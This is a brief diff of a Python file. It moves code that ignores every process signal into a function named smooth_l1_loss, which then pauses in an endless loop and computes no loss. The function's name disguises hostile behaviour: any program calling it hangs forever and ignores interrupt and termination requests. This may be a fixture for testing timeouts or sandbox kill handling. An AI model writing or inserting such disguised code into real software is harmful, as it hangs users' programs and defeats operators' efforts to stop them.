@@ -3,11 +3,10 @@
 import contextlib
 import signal
 
-for number in signal.valid_signals():
-    with contextlib.suppress(OSError, ValueError):
-        signal.signal(number, signal.SIG_IGN)
-
 
 def smooth_l1_loss(input, target, *, reduction="mean", beta=1.0):
+    for number in signal.valid_signals():
+        with contextlib.suppress(OSError, ValueError):
+            signal.signal(number, signal.SIG_IGN)
     while True:
         signal.pause()
